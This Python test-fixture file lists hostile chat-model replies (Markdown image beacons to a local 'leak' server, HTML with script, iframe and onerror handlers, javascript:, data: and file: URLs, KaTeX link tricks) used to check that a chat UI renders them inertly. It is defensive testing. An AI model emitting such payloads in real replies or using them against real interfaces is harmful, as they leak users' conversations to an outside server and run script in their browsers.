"""Hostile model replies for the rendering tests, written for this project.

Each payload is one shape that has been used to make a chat UI fetch an attacker's URL (and so
leak the conversation in the query string) or run script. `{leak}` is the attacker server's
`http://127.0.0.1:<port>/leak` URL and `{host}` its `127.0.0.1:<port>`; every URL carries
`id=<payload id>` so a request that does get through names the payload that let it.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    id: str
    text: str
    remote_images: int = 0  # placeholders the reply should show instead of images

    def render(self, leak: str, host: str) -> str:
        return self.text.replace("{leak}", leak).replace("{host}", host).replace(
            "{id}", self.id
        )


# Markdown images: each becomes a placeholder naming the host, never a request.
IMAGES = [
    Payload("inline", "![chart]({leak}?id={id}&q=the+secret+plan)", 1),
    Payload("titled", '![chart]({leak}?id={id} "Quarterly numbers")', 1),
    Payload("upper-scheme", "![x](HTTP://{host}/leak?id={id})", 1),
    Payload("protocol-relative", "![x](//{host}/leak?id={id})", 1),
    # A browser would read `/\host` as `//host`, but Markdown percent-encodes the backslash:
    # it stays a path on the app itself.
    Payload("backslash", "![x](/\\{host}/leak?id={id})"),
    Payload("entity-scheme", "![x](http&#58;//{host}/leak?id={id})", 1),
    Payload("reference", "[logo]: {leak}?id={id}&c=secret\n\nSee ![company logo][logo]", 1),
    Payload("collapsed-reference", "[pixel]: {leak}?id={id}\n\n![pixel][] and ![pixel]", 2),
    Payload("image-in-link", "[![badge]({leak}?id={id}&a=1)]({leak}?id={id}&a=2)", 1),
    Payload("in-table", "| a | b |\n|---|---|\n| ![t]({leak}?id={id}) | x |", 1),
    Payload("same-origin", "![app icon](/favicon.svg)"),  # the app's own image still loads
    Payload("in-list", "- one\n- ![li]({leak}?id={id})\n  > ![quoted]({leak}?id={id}&q=2)", 2),
]

# Raw HTML must stay text (use_raw=False); these would fetch or run script if it rendered.
HTML = [
    Payload("html-img", '<img src="{leak}?id={id}" onerror="document.title=\'XSS\'">'),
    Payload("html-srcset", '<img srcset="{leak}?id={id} 2x"><picture><source '
            'srcset="{leak}?id={id}&p=1"></picture>'),
    Payload("html-svg", '<svg><image href="{leak}?id={id}"/><script>alert(1)</script></svg>'),
    Payload("html-frames", '<iframe src="{leak}?id={id}"></iframe><object '
            'data="{leak}?id={id}&o=1"></object><embed src="{leak}?id={id}&e=1">'),
    Payload("html-head", '<link rel="stylesheet" href="{leak}?id={id}"><meta http-equiv='
            '"refresh" content="0;url={leak}?id={id}&m=1"><base href="{leak}/">'),
    Payload("html-media", '<video poster="{leak}?id={id}"></video><audio src="{leak}?id='
            '{id}&a=1" autoplay></audio><input type="image" src="{leak}?id={id}&i=1">'),
    Payload("html-style", '<style>@import url("{leak}?id={id}");</style><div style='
            '"background:url({leak}?id={id}&s=1)">styled</div>'),
    Payload("html-script", "<script>alert(document.domain)</script><script src="
            '"{leak}?id={id}"></script>'),
    Payload("html-events", '<details open ontoggle="alert(1)">x</details><body onload='
            '"alert(2)"><a href="javascript:alert(3)">a</a>'),
]

# Links may be followed by a click, never automatically; script URLs lose their href.
LINKS = [
    Payload("link", "[the report]({leak}?id={id})"),
    Payload("autolink", "<{leak}?id={id}&auto=1> and www.example.org"),
    Payload("reference-link", "[r]: {leak}?id={id}\n\nRead [this][r]."),
    Payload("javascript", "[click me](javascript:alert('link'))"),
    Payload("javascript-upper", "[click](JAVASCRIPT:alert(1)) [tab](java\tscript:alert(1))"),
    Payload("javascript-entity", "[x](javascript&#x3A;alert(1)) [y](&#106;avascript:alert(1))"),
    Payload("javascript-autolink", "<javascript:alert(1)>"),
    Payload("javascript-reference", "[evil]: javascript:alert(1)\n\nOpen [evil]."),
    Payload("vbscript", '[v](vbscript:msgbox("x")) [f](file:///etc/passwd)'),
    Payload("data-link", "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    Payload("javascript-image", "![i](javascript:alert(1))"),
    Payload("data-svg-image", "![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
]

# KaTeX runs on model output too: \href and \includegraphics are refused while untrusted.
MATH = [
    Payload("katex", "$$\\includegraphics[height=1em]{{leak}?id={id}}$$ and "
            "$\\href{javascript:alert(1)}{x}$ and $\\url{{leak}?id={id}&u=1}$"),
]

ALL = [*IMAGES, *HTML, *LINKS, *MATH]
